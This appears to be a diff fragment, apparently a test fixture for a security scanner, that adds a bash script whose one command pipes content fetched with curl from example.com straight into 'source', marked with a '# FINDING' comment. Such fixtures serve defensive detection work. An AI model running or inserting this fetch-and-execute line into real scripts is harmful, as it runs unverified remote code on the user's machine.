@@ -1,0 +1,2 @@
+#!/bin/bash
+source <(curl -s https://example.com/env)  # FINDING
